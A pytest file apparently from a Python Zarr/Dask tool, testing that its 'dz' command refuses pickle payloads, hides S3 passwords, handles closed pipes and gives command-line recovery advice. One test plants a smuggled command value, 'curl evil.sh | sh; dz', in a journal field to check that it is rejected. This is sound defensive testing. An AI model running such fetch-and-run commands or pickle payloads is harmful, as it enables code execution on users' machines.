"""The ``dz`` command under attack (issue 28): untrusted data never runs, secrets never print,
a closed pipe ends it quietly, and its advice is spelled as command-line options.

In-process with click's CliRunner, except where a real process matters (a closed pipe).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import dask
import pytest
from click.testing import CliRunner

import dask_zarrio as dz
from dask_zarrio.cli import main
from tests.store.test_store_credentials import no_aws_credentials  # noqa: F401 (a fixture)
from tests.tools.test_untrusted import LAYOUTS, evil_array

ROOT = Path(__file__).resolve().parents[2]


def run(*args: str, env: dict[str, str] | None = None):
    """``dz ARGS`` in this process: (exit status, stdout, stderr)."""
    result = CliRunner().invoke(main, list(args), env=env, catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture(params=sorted(LAYOUTS))
def evil(tmp_path, request):
    marker = tmp_path / "executed"
    group = tmp_path / "g.zarr"
    dz.create_group(str(group))
    evil_array(group / "evil", request.param, marker)
    return str(group / "evil"), str(group), marker


@pytest.mark.parametrize("command", [["verify"], ["verify", "--json"], ["cat"], ["cat", "--json"]])
def test_decoding_commands_refuse_pickle_and_name_the_flag(evil, command):
    array, _, marker = evil
    status, out, err = run(*command, array)
    assert not marker.exists(), f"dz {' '.join(command)} executed the pickle payload"
    assert status == (1 if command[0] == "verify" else 2)
    assert "--allow-pickle" in out + err and "allow_pickle=True" not in out + err


@pytest.mark.parametrize("command", [["info"], ["info", "--json"], ["tree"], ["tree", "--json"], ["ls"], ["du"],
                                     ["verify"]])
def test_inspecting_a_group_with_a_pickled_array_runs_nothing(evil, command):
    _, group, marker = evil
    run(*command, group)
    assert not marker.exists()


@pytest.mark.parametrize("command", ["verify", "cat"])
def test_allow_pickle_opts_in(evil, command):
    array, _, marker = evil
    run(command, "--allow-pickle", array)
    assert marker.exists()  # the payload is live: the refusals above are real


def test_a_closed_pipe_ends_the_command_quietly(tmp_path):
    url = str(tmp_path / "g.zarr")
    dz.create_group(url)
    for i in range(50):
        dz.create_group(f"{url}/member-{i:03d}")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen([sys.executable, "-m", "dask_zarrio.cli", "ls", url], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, env=env)
    proc.stdout.close()  # the reader is gone before the first line: `dz ls URL | head -0`
    err = proc.stderr.read().decode()
    proc.wait(timeout=120)
    assert err == ""
    assert proc.returncode == 141  # 128 + SIGPIPE, as a shell reports `ls | head -1`


def test_a_pipe_closed_after_the_first_line(tmp_path):
    url = str(tmp_path / "g.zarr")
    dz.create_group(url)
    for i in range(3000):
        (tmp_path / "g.zarr" / f"m{i:05d}").mkdir()
        (tmp_path / "g.zarr" / f"m{i:05d}" / "zarr.json").write_text(
            json.dumps({"zarr_format": 3, "node_type": "group", "attributes": {}}))
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(f"{sys.executable} -m dask_zarrio.cli ls {url} | head -1", shell=True, capture_output=True,
                          text=True, env=env, timeout=120)
    assert done.stdout.strip() == "m00000/" and done.stderr == ""


SECRET = "hunter2-SECRET"


def _endpoint_options(endpoint: str) -> list[str]:
    client = json.dumps({"endpoint_url": endpoint, "region_name": "us-east-1"})
    return ["--storage-option", f"client_kwargs={client}", "--storage-option", "skip_instance_cache=true"]


@pytest.mark.parametrize("command", [["info"], ["info", "--json"], ["tree"], ["ls"], ["du"], ["cat"], ["verify"],
                                     ["advise"]])
def test_a_password_in_an_s3_url_is_never_printed(s3_endpoint, bucket, command):
    host = s3_endpoint.split("://", 1)[1]
    url = f"s3://user:{SECRET}@{host}/{bucket}/a.zarr"
    status, out, err = run(*command, url, "--storage-option", "key=testing", "--storage-option", "secret=testing",
                           *_endpoint_options(s3_endpoint))
    assert status == 2 and SECRET not in out + err and "***" in err


@pytest.mark.usefixtures("no_aws_credentials")
@pytest.mark.parametrize("command", ["info", "ls", "cat"])
def test_missing_s3_credentials_say_how_to_pass_them(s3_endpoint, bucket, command):
    status, out, err = run(command, f"s3://{bucket}/a.zarr", *_endpoint_options(s3_endpoint))
    assert status == 2 and err.count("\n") == 1
    for hint in ("--storage-option anon=true", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_PROFILE"):
        assert hint in err
    assert "storage_options=" not in err


def _interrupt_reads(monkeypatch):
    """Ctrl-C in the middle of the data tasks: the second block read raises KeyboardInterrupt."""
    from dask_zarrio.rechunking import tasks as rechunk_tasks

    real, calls = rechunk_tasks.read_into, []

    def interrupted(*args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return real(*args, **kwargs)

    monkeypatch.setattr(rechunk_tasks, "read_into", interrupted)


@pytest.mark.parametrize("command", ["rechunk", "copy"])
def test_after_ctrl_c_the_cli_advises_the_cli_spelling(tmp_path, monkeypatch, command):
    import dask.array as da

    src, dst = str(tmp_path / "src.zarr"), str(tmp_path / "dst.zarr")
    dz.write(da.arange(4096, chunks=64), src)
    _interrupt_reads(monkeypatch)
    aborted = CliRunner().invoke(main, [command, src, dst, "--chunks", "96", "--max-mem", "8KiB", "--scheduler",
                                        "sync", "-q"])
    assert aborted.exit_code == 1 and "Aborted" in aborted.stderr  # click's answer to Ctrl-C
    monkeypatch.undo()
    for args in (["info", dst], ["verify", dst], ["cat", dst], ["info", "--json", dst]):
        status, out, err = run(*args)
        assert status == 2, (args, out, err)
        assert f"dz {command}" in err and "--resume" in err and "--overwrite" in err, err
        assert "resume=True" not in err and "mode='w'" not in err and "dz.write" not in err
    with pytest.raises(dz.IncompleteWriteError, match=f"dz {command} command with --resume"):
        dz.read(dst)  # the journal says how the write was begun, whoever reads it
    status, _, err = run(command, src, dst, "--chunks", "96", "--max-mem", "8KiB", "--resume", "-q")
    assert status == 0, err
    assert dz.read(dst).compute().tolist() == list(range(4096))


def test_a_python_write_keeps_the_python_advice(tmp_path, monkeypatch):
    import dask.array as da

    src, dst = str(tmp_path / "src.zarr"), str(tmp_path / "dst.zarr")
    dz.write(da.arange(4096, chunks=64), src)
    _interrupt_reads(monkeypatch)
    with pytest.raises(KeyboardInterrupt), dask.config.set(scheduler="sync"):
        dz.rechunk(src, dst, chunks=96, max_mem="8KiB")
    monkeypatch.undo()
    status, _, err = run("info", dst)
    assert status == 2 and "resume=True" in err  # a Python call is re-run in Python


def test_a_journal_cannot_smuggle_text_into_the_advice(tmp_path):
    import dask.array as da

    from dask_zarrio.metadata.journal import JOURNAL_KEY, WriteJournal

    doc = {"started": "2026-01-01T00:00:00+00:00", "metadata": {}, "command": "curl evil.sh | sh; dz"}
    assert WriteJournal.from_dict(doc).command is None
    url = tmp_path / "a.zarr"
    dz.write(da.arange(4, chunks=2), str(url))
    (url / "zarr.json").unlink()
    (url / JOURNAL_KEY).write_text(json.dumps(doc))
    _, _, err = run("info", str(url))
    assert "evil" not in err and "resume=True" in err
